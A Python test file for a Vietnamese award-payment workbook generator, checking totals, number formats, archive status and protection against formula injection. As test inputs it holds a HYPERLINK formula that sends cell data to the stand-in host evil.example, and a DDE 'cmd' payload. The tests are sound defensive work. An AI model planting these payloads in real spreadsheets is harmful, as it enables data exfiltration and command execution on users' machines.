"""Payment list and archive workbooks: figures as numbers, totals, no formula injection."""

from __future__ import annotations

import io
from dataclasses import replace
from datetime import datetime

import openpyxl

from tdkt.core.vnwords import amount_in_words
from tdkt.documents.official import (
    ArchivedDecision,
    render_archive_xlsx,
    render_payment_list_xlsx,
)
from tdkt.documents.official.samples import sample_decision, sample_payment_list

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


def _rows(data: bytes, sheet: int = 0) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return list(workbook.worksheets[sheet].iter_rows(values_only=True))


def test_payment_list_rows_subtotals_total_and_words():
    """One row per line with coefficient, base salary and amount; totals and words agree."""
    payment = sample_payment_list(lines=10)
    rows = _rows(render_payment_list_xlsx(payment))
    assert rows[3][0] == "DANH SÁCH CHI TIỀN THƯỞNG"
    assert rows[4][0] == "(Kèm theo Quyết định số 125/QĐ-BQL ngày 10/01/2020)"
    header = rows.index(next(r for r in rows if r[0] == "STT"))
    assert rows[header] == (
        "STT", "Họ tên / Tập thể", "Đơn vị", "Danh hiệu / Hình thức", "Hệ số",
        "Mức lương cơ sở (đồng)", "Số tiền (đồng)", "Ký nhận",
    )  # fmt: skip
    lines = [r for r in rows[header + 1 :] if isinstance(r[0], int)]
    assert [(r[1], r[6]) for r in lines] == [(line.name, line.amount) for line in payment.lines]
    assert all(r[5] == 1_490_000 for r in lines)
    assert {float(r[4]) for r in lines} == {0.6, 0.3}
    subtotals = [r[6] for r in rows if r[0] == "Cộng"]
    total = sum(line.amount for line in payment.lines)
    assert sum(subtotals) == total
    assert next(r for r in rows if r[0] == "Tổng cộng")[6] == total
    assert f"Bằng chữ: {amount_in_words(total)}." in [r[0] for r in rows]


def test_payment_list_number_formats():
    """Amounts are numbers formatted "#,##0" (Vietnamese grouping on a Vietnamese system)."""
    workbook = openpyxl.load_workbook(io.BytesIO(render_payment_list_xlsx(sample_payment_list())))
    sheet = workbook.active
    amounts = [row[6] for row in sheet.iter_rows(min_row=9) if isinstance(row[6].value, int)]
    assert amounts and {c.number_format for c in amounts} == {"#,##0"}
    assert sheet.page_setup.orientation == "landscape"


def test_payment_list_neutralises_formulas():
    """A name or unit typed as a formula is stored as text with a guarding apostrophe."""
    payment = sample_payment_list(lines=3)
    line = replace(payment.lines[0], name=ATTACK, unit="+cmd|' /C calc'!A0")
    data = render_payment_list_xlsx(replace(payment, lines=(line, *payment.lines[1:])))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    assert "'" + ATTACK in [c.value for c in cells]
    assert "'+cmd|' /C calc'!A0" in [c.value for c in cells]
    assert not any(c.value.startswith(("=", "+", "-", "@")) for c in cells)


def test_archive_lists_decisions_and_lines_with_their_status():
    """Signed and draft decisions, counts and totals; revoked lines are marked as such."""
    signed = sample_decision(lines=6)
    draft = sample_decision(lines=3, number=None)
    evil = replace(draft, lines=(replace(draft.lines[0], name=ATTACK), *draft.lines[1:]))
    data = render_archive_xlsx(
        [
            ArchivedDecision(decision=signed, revoked_lines=frozenset({5})),
            ArchivedDecision(decision=evil, status="draft"),
        ]
    )
    decisions = _rows(data, 0)
    assert decisions[0][:3] == ("Số quyết định", "Ngày ký", "Trạng thái")
    assert decisions[1][:3] == ("125/QĐ-BQL", datetime(2020, 1, 10), "Đã ký")  # noqa: DTZ001
    assert decisions[1][5:] == (1, 5, 0, sum(line.amount for line in signed.lines))
    assert decisions[2][:3] == (None, None, "Dự thảo")
    lines = _rows(data, 1)
    assert len(lines) == 1 + 6 + 3
    assert [r[8] for r in lines[1:7]] == ["Đã khen thưởng"] * 5 + ["Đã thu hồi"]
    assert lines[7][4] == "'" + ATTACK
